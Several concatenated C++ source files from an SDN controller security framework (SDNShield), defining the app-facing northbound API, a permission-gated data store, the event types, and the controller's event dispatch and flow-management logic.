      std::function<bool(const PacketInEvent&)> handler) = 0;
  virtual ApiResponse<SubscriptionId> subscribeFlowEvents(
      std::function<void(const FlowEvent&)> handler) = 0;
  virtual ApiResponse<SubscriptionId> subscribeTopologyEvents(
      std::function<void(const TopologyEvent&)> handler) = 0;
  virtual ApiResponse<SubscriptionId> subscribeErrorEvents(
      std::function<void(const ErrorEvent&)> handler) = 0;
  virtual ApiResponse<SubscriptionId> subscribeData(
      const std::string& topic,
      std::function<void(const DataUpdateEvent&)> handler) = 0;

  /// Removes a previous subscription by this app. Fails with
  /// kInvalidArgument if the id is unknown or owned by another app.
  virtual ApiResult unsubscribe(SubscriptionId id) = 0;
};

/// A controller application. Apps carry their requested permission manifest
/// (permission-language text) in the release package (§III).
class App {
 public:
  virtual ~App() = default;

  virtual std::string name() const = 0;

  /// The developer-authored permission manifest distributed with the app.
  virtual std::string requestedManifest() const = 0;

  /// Called once on the app's execution context. Registers listeners and
  /// performs initial API calls.
  virtual void init(AppContext& context) = 0;
};

}  // namespace sdnshield::ctrl
