// The controller's northbound API and app model.
//
// Apps are written once against NorthboundApi/AppContext and run unchanged
// in both deployments (the compatibility property of §VI):
//  * baseline (monolithic): DirectApi — direct kernel calls, no mediation;
//  * SDNShield: the isolation module's ApiProxy — calls marshal through the
//    inter-thread channel to a Kernel Service Deputy which permission-checks
//    and executes them.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "controller/event.h"
#include "net/topology.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "of/flow_mod.h"
#include "of/messages.h"

namespace sdnshield::ctrl {

/// Controller-wide observability report — the /stats export surface. Carries
/// a merged metrics snapshot, the recent span trail and audit-log totals.
/// In the SDNShield deployment access is gated by the read_statistics token
/// at switch granularity (controller-wide counters are switch-level data).
struct StatsReport {
  obs::Snapshot metrics;
  std::vector<obs::SpanSnapshot> recentSpans;
  std::uint64_t auditRecords = 0;
  std::uint64_t auditDenied = 0;
  std::uint64_t auditFaults = 0;
  std::uint64_t dispatchFaults = 0;

  /// Human-readable rendering (one line per metric, then span trail).
  std::string toText() const;
  /// Machine-readable rendering (single JSON object).
  std::string toJson() const;
};

/// Outcome of a mutating API call.
struct ApiResult {
  bool ok = true;
  std::string error;

  static ApiResult success() { return {}; }
  static ApiResult failure(std::string error) {
    return ApiResult{false, std::move(error)};
  }
};

/// Outcome of a reading API call.
template <typename T>
struct ApiResponse {
  bool ok = true;
  std::string error;
  T value{};

  static ApiResponse success(T value) {
    return ApiResponse{true, {}, std::move(value)};
  }
  static ApiResponse failure(std::string error) {
    return ApiResponse{false, std::move(error), T{}};
  }
};

/// The SDN northbound interface exposed to apps.
class NorthboundApi {
 public:
  virtual ~NorthboundApi() = default;

  virtual ApiResult insertFlow(of::DatapathId dpid, const of::FlowMod& mod) = 0;
  virtual ApiResult deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                               bool strict, std::uint16_t priority) = 0;
  /// Atomically installs a group of rules (§VI-B.2); all-or-nothing.
  virtual ApiResult commitFlowTransaction(
      const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) = 0;

  virtual ApiResponse<std::vector<of::FlowEntry>> readFlowTable(
      of::DatapathId dpid) = 0;
  virtual ApiResponse<net::Topology> readTopology() = 0;
  virtual ApiResponse<of::StatsReply> readStatistics(
      const of::StatsRequest& request) = 0;
  virtual ApiResult sendPacketOut(const of::PacketOut& packetOut) = 0;

  /// Publishes to the inter-app data bus (ALTO scenario).
  virtual ApiResult publishData(const std::string& topic,
                                const std::string& payload) = 0;

  /// Controller-wide observability report (metrics + spans + audit totals).
  /// Unchecked in the baseline; permission-gated under SDNShield.
  virtual ApiResponse<StatsReport> statsReport() = 0;
};

/// Host-system services (network/file/process) available to an app. In the
/// SDNShield deployment these are mediated by the reference monitor; the
/// baseline deployment passes them straight through.
class HostServices {
 public:
  virtual ~HostServices() = default;

  /// Sends data to a remote endpoint over the controller host's network.
  virtual bool netSend(of::Ipv4Address remoteIp, std::uint16_t remotePort,
                       const std::string& data) = 0;
  virtual bool fileWrite(const std::string& path, const std::string& data) = 0;
  virtual bool exec(const std::string& command) = 0;
};

/// Everything an app receives at init time.
class AppContext {
 public:
  virtual ~AppContext() = default;

  virtual of::AppId appId() const = 0;
  virtual NorthboundApi& api() = 0;
  virtual HostServices& host() = 0;

  // Event subscriptions. In the SDNShield deployment the subscription call
  // itself is permission-checked (event tokens) and handlers run on the
  // app's own thread.
  virtual ApiResult subscribePacketIn(
      std::function<void(const PacketInEvent&)> handler) = 0;
  /// Interceptor registration: the handler may consume the packet-in
  /// (return true) before plain observers see it. Requires the
  /// EVENT_INTERCEPTION callback capability under SDNShield; runs
  /// synchronously on the dispatch path under the app's identity.
  virtual ApiResult subscribePacketInInterceptor(
      std::function<bool(const PacketInEvent&)> handler) = 0;
  virtual ApiResult subscribeFlowEvents(
      std::function<void(const FlowEvent&)> handler) = 0;
  virtual ApiResult subscribeTopologyEvents(
      std::function<void(const TopologyEvent&)> handler) = 0;
  virtual ApiResult subscribeErrorEvents(
      std::function<void(const ErrorEvent&)> handler) = 0;
  virtual ApiResult subscribeData(
      const std::string& topic,
      std::function<void(const DataUpdateEvent&)> handler) = 0;
};

/// A controller application. Apps carry their requested permission manifest
/// (permission-language text) in the release package (§III).
class App {
 public:
  virtual ~App() = default;

  virtual std::string name() const = 0;

  /// The developer-authored permission manifest distributed with the app.
  virtual std::string requestedManifest() const = 0;

  /// Called once on the app's execution context. Registers listeners and
  /// performs initial API calls.
  virtual void init(AppContext& context) = 0;
};

}  // namespace sdnshield::ctrl
