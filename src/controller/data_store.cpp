#include "controller/data_store.h"

#include <algorithm>

namespace sdnshield::ctrl {

namespace {

bool isPrefixOf(const std::string& prefix, const std::string& path) {
  if (prefix.empty()) return true;
  if (path.size() < prefix.size()) return false;
  if (path.compare(0, prefix.size(), prefix) != 0) return false;
  // Segment boundary: "topology/sw" is not under prefix "topology/s".
  return path.size() == prefix.size() || path[prefix.size()] == '/' ||
         prefix.back() == '/';
}

/// An ApiCall whose required token is @p token, so the engine evaluates the
/// right compiled program (filters that inspect attributes the data access
/// does not carry label true — "not applicable").
perm::ApiCall callForToken(of::AppId app, perm::Token token) {
  static constexpr perm::ApiCallType kAllTypes[] = {
      perm::ApiCallType::kInsertFlow,
      perm::ApiCallType::kDeleteFlow,
      perm::ApiCallType::kReadFlowTable,
      perm::ApiCallType::kSubscribeFlowEvent,
      perm::ApiCallType::kReadTopology,
      perm::ApiCallType::kModifyTopology,
      perm::ApiCallType::kSubscribeTopologyEvent,
      perm::ApiCallType::kReadStatistics,
      perm::ApiCallType::kSubscribeErrorEvent,
      perm::ApiCallType::kReadPayload,
      perm::ApiCallType::kSendPacketOut,
      perm::ApiCallType::kSubscribePacketIn,
      perm::ApiCallType::kHostNetworkAccess,
      perm::ApiCallType::kFileSystemAccess,
      perm::ApiCallType::kProcessRuntimeAccess,
  };
  perm::ApiCall call;
  call.app = app;
  for (perm::ApiCallType type : kAllTypes) {
    if (perm::requiredToken(type) == token) {
      call.type = type;
      return call;
    }
  }
  return call;
}

}  // namespace

void DataStore::defineSensitivity(std::string pathPrefix,
                                  std::optional<perm::Token> readToken,
                                  std::optional<perm::Token> writeToken) {
  std::lock_guard lock(mutex_);
  sensitivities_.push_back(
      Sensitivity{std::move(pathPrefix), readToken, writeToken});
}

const DataStore::Sensitivity* DataStore::findSensitivity(
    const std::string& path) const {
  const Sensitivity* best = nullptr;
  for (const Sensitivity& candidate : sensitivities_) {
    if (!isPrefixOf(candidate.prefix, path)) continue;
    if (best == nullptr || candidate.prefix.size() > best->prefix.size()) {
      best = &candidate;
    }
  }
  return best;
}

engine::Decision DataStore::check(of::AppId app, const std::string& path,
                                  bool forWrite) const {
  if (engine_ == nullptr || app == of::kKernelAppId) {
    return engine::Decision::allow();
  }
  const Sensitivity* sensitivity = findSensitivity(path);
  if (sensitivity == nullptr) {
    // Undeclared subtree: fail closed for apps (only the kernel touches it).
    return engine::Decision::deny("data node '" + path +
                                  "' has no declared sensitivity");
  }
  const std::optional<perm::Token>& token =
      forWrite ? sensitivity->writeToken : sensitivity->readToken;
  if (!token) return engine::Decision::allow();
  engine::Decision decision = engine_->check(callForToken(app, *token));
  if (audit_ != nullptr) {
    perm::ApiCall logged = callForToken(app, *token);
    logged.path = path;
    audit_->record(logged, decision.allowed, decision.reason);
  }
  return decision;
}

ApiResult DataStore::write(of::AppId app, const std::string& path,
                           std::string value) {
  engine::Decision decision = check(app, path, /*forWrite=*/true);
  if (!decision.allowed) {
    return ApiResult::failure(ApiErrc::kPermissionDenied, decision.reason);
  }
  std::vector<Subscription> toNotify;
  {
    std::lock_guard lock(mutex_);
    nodes_[path] = value;
    for (const Subscription& subscription : subscriptions_) {
      if (isPrefixOf(subscription.prefix, path)) {
        toNotify.push_back(subscription);
      }
    }
  }
  for (const Subscription& subscription : toNotify) {
    subscription.handler(path, value);
  }
  return ApiResult::success();
}

ApiResponse<std::string> DataStore::read(of::AppId app,
                                         const std::string& path) const {
  engine::Decision decision = check(app, path, /*forWrite=*/false);
  if (!decision.allowed) {
    return ApiResponse<std::string>::failure(ApiErrc::kPermissionDenied,
                                             decision.reason);
  }
  std::lock_guard lock(mutex_);
  auto it = nodes_.find(path);
  if (it == nodes_.end()) {
    return ApiResponse<std::string>::failure(ApiErrc::kInvalidArgument,
                                             "no such data node: " + path);
  }
  return ApiResponse<std::string>::success(it->second);
}

ApiResponse<std::vector<std::string>> DataStore::list(
    of::AppId app, const std::string& prefix) const {
  engine::Decision decision = check(app, prefix, /*forWrite=*/false);
  if (!decision.allowed) {
    return ApiResponse<std::vector<std::string>>::failure(
        ApiErrc::kPermissionDenied, decision.reason);
  }
  std::lock_guard lock(mutex_);
  std::vector<std::string> out;
  for (const auto& [path, _] : nodes_) {
    if (isPrefixOf(prefix, path) && path != prefix) out.push_back(path);
  }
  return ApiResponse<std::vector<std::string>>::success(std::move(out));
}

ApiResult DataStore::subscribe(of::AppId app, std::string prefix,
                               ChangeHandler handler) {
  engine::Decision decision = check(app, prefix, /*forWrite=*/false);
  if (!decision.allowed) {
    return ApiResult::failure(ApiErrc::kPermissionDenied, decision.reason);
  }
  std::lock_guard lock(mutex_);
  subscriptions_.push_back(
      Subscription{app, std::move(prefix), std::move(handler)});
  return ApiResult::success();
}

std::size_t DataStore::nodeCount() const {
  std::lock_guard lock(mutex_);
  return nodes_.size();
}

}  // namespace sdnshield::ctrl
