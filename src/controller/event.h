// Controller event model: what apps can subscribe to. Mirrors the paper's
// event-notification permission tokens (pkt_in_event, flow_event,
// topology_event, error_event) plus a data-publication bus used by the
// ALTO/TE scenario (§IX-A).
#pragma once

#include <cstdint>
#include <string>
#include <variant>

#include "of/flow_mod.h"
#include "of/messages.h"

namespace sdnshield::ctrl {

struct PacketInEvent {
  of::PacketIn packetIn;
};

enum class FlowChange { kInstalled, kModified, kRemoved };

struct FlowEvent {
  of::DatapathId dpid = 0;
  FlowChange change = FlowChange::kInstalled;
  of::FlowMatch match;
  std::uint16_t priority = 0;
  of::AppId issuer = 0;
};

enum class TopologyChange { kSwitchUp, kSwitchDown, kLinkUp, kLinkDown, kHostSeen };

struct TopologyEvent {
  TopologyChange change = TopologyChange::kSwitchUp;
  of::DatapathId dpidA = 0;
  of::DatapathId dpidB = 0;  ///< Link events only.
};

struct ErrorEvent {
  of::ErrorMsg error;
};

/// Inter-app data publication (the ALTO app publishes cost maps; the TE app
/// subscribes). Mediated like any other event.
struct DataUpdateEvent {
  std::string topic;
  std::string payload;
  of::AppId publisher = 0;
};

using Event = std::variant<PacketInEvent, FlowEvent, TopologyEvent, ErrorEvent,
                           DataUpdateEvent>;

std::string toString(const Event& event);

}  // namespace sdnshield::ctrl
