#include "controller/controller.h"

#include <algorithm>

#include "obs/export.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace sdnshield::ctrl {

namespace {

/// what() of the in-flight exception (for fault audit records). Must be
/// called from inside a catch block.
std::string currentExceptionWhat() {
  try {
    throw;
  } catch (const std::exception& error) {
    return error.what();
  } catch (...) {
    return "unknown exception";
  }
}

struct DispatchMetrics {
  obs::Histogram latency =
      obs::Registry::global().histogram("controller.dispatch_ns");
  obs::Counter delivered =
      obs::Registry::global().counter("controller.dispatched");
  obs::Counter faults =
      obs::Registry::global().counter("controller.dispatch_faults");
  /// Packet-in dispatches routed to a shard event loop vs. run inline on
  /// the calling thread (no dispatch attached == the pre-shard pipeline).
  obs::Counter sharded =
      obs::Registry::global().counter("controller.dispatch_sharded");
  obs::Counter inline_ =
      obs::Registry::global().counter("controller.dispatch_inline");
};

const DispatchMetrics& dispatchMetrics() {
  static const DispatchMetrics metrics;
  return metrics;
}

}  // namespace

const char* toString(ApiErrc code) {
  switch (code) {
    case ApiErrc::kOk:
      return "ok";
    case ApiErrc::kPermissionDenied:
      return "permission_denied";
    case ApiErrc::kDeadlineExceeded:
      return "deadline_exceeded";
    case ApiErrc::kQueueFull:
      return "queue_full";
    case ApiErrc::kTableFull:
      return "table_full";
    case ApiErrc::kPoolStopped:
      return "pool_stopped";
    case ApiErrc::kAppQuarantined:
      return "app_quarantined";
    case ApiErrc::kInvalidArgument:
      return "invalid_argument";
    case ApiErrc::kTransactionAborted:
      return "transaction_aborted";
    case ApiErrc::kConnClosed:
      return "conn_closed";
    case ApiErrc::kFramingError:
      return "framing_error";
  }
  return "unknown";
}

void Controller::deliver(const Subscriber& subscriber, const Event& event) {
  // Fault containment on the dispatch path: a throwing handler (inline in
  // the baseline deployment, or a failing sink wrapper in the shielded one)
  // must not unwind into the controller or starve later subscribers.
  std::int64_t startNs = obs::Tracer::nowNs();
  try {
    subscriber.sink(event);
  } catch (...) {
    dispatchFaults_.fetch_add(1, std::memory_order_relaxed);
    dispatchMetrics().faults.increment();
    audit_.recordFault(subscriber.app,
                       "event handler threw: " + currentExceptionWhat());
  }
  std::int64_t durationNs = obs::Tracer::nowNs() - startNs;
  dispatchMetrics().delivered.increment();
  dispatchMetrics().latency.record(durationNs);
  obs::Tracer::global().record("controller.deliver", startNs, durationNs);
}

std::string StatsReport::toText() const {
  std::string out = obs::renderText(metrics);
  out += "audit records=" + std::to_string(auditRecords) +
         " denied=" + std::to_string(auditDenied) +
         " faults=" + std::to_string(auditFaults) +
         " dispatch_faults=" + std::to_string(dispatchFaults) + "\n";
  if (!marketDigest.empty()) out += "market " + marketDigest + "\n";
  if (!recentSpans.empty()) {
    out += "spans " + obs::Tracer::formatTrail(recentSpans) + "\n";
  }
  return out;
}

std::string StatsReport::toJson() const {
  std::string metricsJson = obs::renderJson(metrics);
  std::string out = "{\"metrics\":" + metricsJson;
  out += ",\"audit\":{\"records\":" + std::to_string(auditRecords) +
         ",\"denied\":" + std::to_string(auditDenied) +
         ",\"faults\":" + std::to_string(auditFaults) +
         ",\"dispatch_faults\":" + std::to_string(dispatchFaults) + "}";
  if (!marketDigest.empty()) {
    out += ",\"market_digest\":\"";
    for (char c : marketDigest) {  // Digest is single-line by construction.
      if (c == '"' || c == '\\') out += '\\';
      out += c;
    }
    out += "\"";
  }
  out += ",\"recent_spans\":[";
  for (std::size_t i = 0; i < recentSpans.size(); ++i) {
    if (i) out += ",";
    out += "{\"name\":\"" + recentSpans[i].name +
           "\",\"start_ns\":" + std::to_string(recentSpans[i].startNs) +
           ",\"duration_ns\":" + std::to_string(recentSpans[i].durationNs) +
           ",\"seq\":" + std::to_string(recentSpans[i].seq) + "}";
  }
  out += "]}";
  return out;
}

StatsReport Controller::statsReport() const {
  StatsReport report;
  if (ShardDispatch* shards = shardDispatch()) {
    // Merge fence: every shard loop finishes its in-flight work (pending
    // mirror updates, posted deliveries) before the snapshot is taken, so
    // the per-shard counters in the merged view are mutually consistent.
    shards->fenceShards();
  }
  report.metrics = obs::Registry::global().snapshot();
  report.recentSpans = obs::Tracer::global().recentSpans();
  report.auditRecords = audit_.totalRecorded();
  report.auditDenied = audit_.deniedCount();
  report.auditFaults = audit_.faultCount();
  report.dispatchFaults = dispatchFaults_.load(std::memory_order_relaxed);
  if (MarketControl* market = marketControl()) {
    report.marketDigest = market->digest();
  }
  return report;
}

std::size_t Controller::subscriptionCount() const {
  std::lock_guard lock(mutex_);
  return packetInSubscribers_.size() + packetInInterceptors_.size() +
         flowSubscribers_.size() + topologySubscribers_.size() +
         errorSubscribers_.size() + dataSubscribers_.size();
}

ApiResult Controller::attachSwitch(std::shared_ptr<SwitchConn> conn,
                                   const ConnectionInfo& info) {
  if (!conn) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "null connection");
  }
  if (info.dpid == 0) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "zero dpid");
  }
  {
    std::lock_guard lock(mutex_);
    switches_[info.dpid] = Attachment{std::move(conn), info};
    topology_.addSwitch(info.dpid);
  }
  obs::Registry::global().counter("controller.switch_attached").increment();
  if (ShardDispatch* shards = shardDispatch()) {
    // Home-shard assignment: the owning event loop materializes this
    // switch's FlowTable mirror before any packet-in can race it there.
    shards->noteSwitchAttached(info.dpid);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kSwitchUp, info.dpid, 0});
  return ApiResult::success();
}

std::optional<ConnectionInfo> Controller::connectionInfo(
    of::DatapathId dpid) const {
  std::lock_guard lock(mutex_);
  auto it = switches_.find(dpid);
  if (it == switches_.end()) return std::nullopt;
  return it->second.info;
}

void Controller::detachSwitch(of::DatapathId dpid) {
  {
    std::lock_guard lock(mutex_);
    switches_.erase(dpid);
    topology_.removeSwitch(dpid);
  }
  if (ShardDispatch* shards = shardDispatch()) shards->dropSwitchState(dpid);
  emitTopologyEvent(TopologyEvent{TopologyChange::kSwitchDown, dpid, 0});
}

void Controller::addLink(of::DatapathId a, of::PortNo aPort, of::DatapathId b,
                         of::PortNo bPort) {
  {
    std::lock_guard lock(mutex_);
    topology_.addLink(a, aPort, b, bPort);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kLinkUp, a, b});
}

void Controller::learnHost(const net::Host& host) {
  {
    std::lock_guard lock(mutex_);
    topology_.attachHost(host);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kHostSeen, host.dpid, 0});
}

void Controller::onPacketIn(const of::PacketIn& packetIn) {
  std::vector<Interceptor> interceptors;
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    interceptors = packetInInterceptors_;
    subscribers = packetInSubscribers_;
  }
  if (ShardDispatch* shards = shardDispatch()) {
    // Hop to the event loop owning this switch; the caller (a wire reactor,
    // a cbench generator, a sim switch) blocks until delivery completes, so
    // per-switch packet-in order is preserved exactly as in the inline path.
    dispatchMetrics().sharded.increment();
    shards->runOnShard(shards->shardOf(packetIn.dpid), [&] {
      dispatchPacketIn(packetIn, interceptors, subscribers);
    });
    return;
  }
  dispatchMetrics().inline_.increment();
  dispatchPacketIn(packetIn, interceptors, subscribers);
}

void Controller::onPacketIns(const std::vector<of::PacketIn>& batch) {
  if (batch.empty()) return;
  std::vector<Interceptor> interceptors;
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    interceptors = packetInInterceptors_;
    subscribers = packetInSubscribers_;
  }
  if (ShardDispatch* shards = shardDispatch()) {
    // Split the batch by home shard, preserving arrival order within each
    // shard (and therefore per-switch order). With shards=1 this is one
    // group in original order — bit-identical to the inline loop below.
    dispatchMetrics().sharded.increment();
    std::size_t shardCount = shards->shardCount();
    std::vector<std::vector<const of::PacketIn*>> groups(shardCount);
    for (const of::PacketIn& packetIn : batch) {
      groups[shards->shardOf(packetIn.dpid)].push_back(&packetIn);
    }
    for (std::size_t s = 0; s < shardCount; ++s) {
      if (groups[s].empty()) continue;
      shards->runOnShard(s, [&, s] {
        for (const of::PacketIn* packetIn : groups[s]) {
          dispatchPacketIn(*packetIn, interceptors, subscribers);
        }
      });
    }
    return;
  }
  dispatchMetrics().inline_.increment();
  for (const of::PacketIn& packetIn : batch) {
    dispatchPacketIn(packetIn, interceptors, subscribers);
  }
}

void Controller::dispatchPacketIn(const of::PacketIn& packetIn,
                                  const std::vector<Interceptor>& interceptors,
                                  const std::vector<Subscriber>& subscribers) {
  Event event{PacketInEvent{packetIn}};
  for (const Interceptor& interceptor : interceptors) {
    try {
      if (interceptor.intercept(event)) return;  // Consumed.
    } catch (...) {
      // A faulting interceptor forfeits its consume decision; observers
      // still see the packet.
      dispatchFaults_.fetch_add(1, std::memory_order_relaxed);
      audit_.recordFault(interceptor.app,
                         "interceptor threw: " + currentExceptionWhat());
    }
  }
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

void Controller::onFlowRemoved(const of::FlowRemoved& removed) {
  // The cookie carries the issuing app id (stamped at insert time).
  ownership_.recordDelete(removed.dpid, removed.match, removed.priority,
                          /*strict=*/true);
  if (ShardDispatch* shards = shardDispatch()) {
    of::FlowMod expire;
    expire.command = of::FlowModCommand::kDeleteStrict;
    expire.match = removed.match;
    expire.priority = removed.priority;
    expire.cookie = removed.cookie;
    shards->noteFlowMods(removed.dpid, {expire});
  }
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{FlowEvent{removed.dpid, FlowChange::kRemoved, removed.match,
                        removed.priority,
                        static_cast<of::AppId>(removed.cookie)}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

SubscriptionId Controller::addPacketInInterceptor(of::AppId app,
                                                  EventInterceptor interceptor) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  packetInInterceptors_.push_back(Interceptor{id, app, std::move(interceptor)});
  return id;
}

void Controller::onSwitchError(const of::ErrorMsg& error) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = errorSubscribers_;
  }
  Event event{ErrorEvent{error}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

ApiResult Controller::kernelInsertFlow(of::AppId issuer, of::DatapathId dpid,
                                       const of::FlowMod& mod) {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "unknown switch");
  }
  of::FlowMod stamped = mod;
  stamped.cookie = issuer;
  if (ApiResult applied = conn->applyFlowMod(stamped); !applied.ok()) {
    if (applied.code() == ApiErrc::kTableFull) {
      onSwitchError(
          of::ErrorMsg{dpid, of::ErrorType::kTableFull, "table full"});
    }
    return applied;
  }
  bool modify = mod.command == of::FlowModCommand::kModify ||
                mod.command == of::FlowModCommand::kModifyStrict;
  if (!modify) ownership_.recordInsert(issuer, dpid, mod.match, mod.priority);
  if (ShardDispatch* shards = shardDispatch()) {
    shards->noteFlowMods(dpid, {stamped});
  }
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{FlowEvent{dpid,
                        modify ? FlowChange::kModified : FlowChange::kInstalled,
                        mod.match, mod.priority, issuer}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
  return ApiResult::success();
}

ApiResult Controller::kernelInsertFlows(of::AppId issuer, of::DatapathId dpid,
                                        const std::vector<of::FlowMod>& mods) {
  if (mods.empty()) return ApiResult::success();
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "unknown switch");
  }
  std::vector<of::FlowMod> stamped = mods;
  for (of::FlowMod& mod : stamped) mod.cookie = issuer;
  std::vector<ApiResult> applied = conn->applyFlowMods(stamped);
  if (ShardDispatch* shards = shardDispatch()) {
    // Only the mods the switch accepted reach the mirror, so the shard view
    // tracks the real table, not the request stream.
    std::vector<of::FlowMod> accepted;
    accepted.reserve(stamped.size());
    for (std::size_t i = 0; i < stamped.size(); ++i) {
      if (i < applied.size() && applied[i].ok()) {
        accepted.push_back(stamped[i]);
      }
    }
    if (!accepted.empty()) shards->noteFlowMods(dpid, accepted);
  }
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  ApiResult result = ApiResult::success();
  for (std::size_t i = 0; i < mods.size(); ++i) {
    if (i < applied.size() && !applied[i].ok()) {
      if (applied[i].code() == ApiErrc::kTableFull) {
        onSwitchError(
            of::ErrorMsg{dpid, of::ErrorType::kTableFull, "table full"});
      }
      if (result.ok()) result = applied[i];
      continue;
    }
    const of::FlowMod& mod = mods[i];
    bool modify = mod.command == of::FlowModCommand::kModify ||
                  mod.command == of::FlowModCommand::kModifyStrict;
    if (!modify) ownership_.recordInsert(issuer, dpid, mod.match, mod.priority);
    Event event{FlowEvent{
        dpid, modify ? FlowChange::kModified : FlowChange::kInstalled,
        mod.match, mod.priority, issuer}};
    for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
  }
  return result;
}

ApiResult Controller::kernelDeleteFlow(of::AppId issuer, of::DatapathId dpid,
                                       const of::FlowMatch& match, bool strict,
                                       std::uint16_t priority) {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "unknown switch");
  }
  of::FlowMod mod;
  mod.command =
      strict ? of::FlowModCommand::kDeleteStrict : of::FlowModCommand::kDelete;
  mod.match = match;
  mod.priority = priority;
  mod.cookie = issuer;
  if (ApiResult applied = conn->applyFlowMod(mod); !applied.ok()) {
    return applied;
  }
  ownership_.recordDelete(dpid, match, priority, strict);
  if (ShardDispatch* shards = shardDispatch()) shards->noteFlowMods(dpid, {mod});
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{
      FlowEvent{dpid, FlowChange::kRemoved, match, priority, issuer}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
  return ApiResult::success();
}

ApiResponse<std::vector<of::FlowEntry>> Controller::kernelReadFlowTable(
    of::DatapathId dpid) const {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) {
    return ApiResponse<std::vector<of::FlowEntry>>::failure(
        ApiErrc::kInvalidArgument, "unknown switch");
  }
  return conn->dumpFlows();
}

net::Topology Controller::kernelReadTopology() const {
  std::lock_guard lock(mutex_);
  return topology_;
}

ApiResponse<of::StatsReply> Controller::kernelReadStatistics(
    const of::StatsRequest& request) const {
  std::shared_ptr<SwitchConn> conn = switchConn(request.dpid);
  if (!conn) {
    return ApiResponse<of::StatsReply>::failure(ApiErrc::kInvalidArgument,
                                                "unknown switch");
  }
  return conn->queryStats(request);
}

ApiResult Controller::kernelSendPacketOut(const of::PacketOut& packetOut) {
  std::shared_ptr<SwitchConn> conn = switchConn(packetOut.dpid);
  if (!conn) {
    return ApiResult::failure(ApiErrc::kInvalidArgument, "unknown switch");
  }
  return conn->transmitPacket(packetOut);
}

void Controller::kernelPublishData(of::AppId publisher,
                                   const std::string& topic,
                                   const std::string& payload) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = dataSubscribers_;
  }
  Event event{DataUpdateEvent{topic, payload, publisher}};
  for (const Subscriber& subscriber : subscribers) {
    if (subscriber.topic == topic) deliver(subscriber, event);
  }
}

SubscriptionId Controller::nextSubscriptionId() {
  return SubscriptionId{
      subscriptionSeq_.fetch_add(1, std::memory_order_relaxed) + 1};
}

SubscriptionId Controller::addPacketInSubscriber(of::AppId app,
                                                 EventSink sink) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  packetInSubscribers_.push_back(Subscriber{id, app, std::move(sink), {}});
  return id;
}

SubscriptionId Controller::addFlowSubscriber(of::AppId app, EventSink sink) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  flowSubscribers_.push_back(Subscriber{id, app, std::move(sink), {}});
  return id;
}

SubscriptionId Controller::addTopologySubscriber(of::AppId app,
                                                 EventSink sink) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  topologySubscribers_.push_back(Subscriber{id, app, std::move(sink), {}});
  return id;
}

SubscriptionId Controller::addErrorSubscriber(of::AppId app, EventSink sink) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  errorSubscribers_.push_back(Subscriber{id, app, std::move(sink), {}});
  return id;
}

SubscriptionId Controller::addDataSubscriber(of::AppId app,
                                             const std::string& topic,
                                             EventSink sink) {
  SubscriptionId id = nextSubscriptionId();
  std::lock_guard lock(mutex_);
  dataSubscribers_.push_back(Subscriber{id, app, std::move(sink), topic});
  return id;
}

bool Controller::removeSubscription(SubscriptionId id,
                                    std::optional<of::AppId> owner) {
  if (!id) return false;
  std::lock_guard lock(mutex_);
  auto matches = [&](SubscriptionId subId, of::AppId subApp) {
    return subId == id && (!owner.has_value() || *owner == subApp);
  };
  auto dropFrom = [&](std::vector<Subscriber>& list) {
    return std::erase_if(list, [&](const Subscriber& sub) {
             return matches(sub.id, sub.app);
           }) > 0;
  };
  if (dropFrom(packetInSubscribers_) || dropFrom(flowSubscribers_) ||
      dropFrom(topologySubscribers_) || dropFrom(errorSubscribers_) ||
      dropFrom(dataSubscribers_)) {
    return true;
  }
  return std::erase_if(packetInInterceptors_, [&](const Interceptor& i) {
           return matches(i.id, i.app);
         }) > 0;
}

void Controller::removeSubscribers(of::AppId app) {
  {
    std::lock_guard lock(mutex_);
    auto drop = [&](std::vector<Subscriber>& list) {
      std::erase_if(list,
                    [&](const Subscriber& sub) { return sub.app == app; });
    };
    drop(packetInSubscribers_);
    std::erase_if(packetInInterceptors_,
                  [&](const Interceptor& i) { return i.app == app; });
    drop(flowSubscribers_);
    drop(topologySubscribers_);
    drop(errorSubscribers_);
    drop(dataSubscribers_);
  }
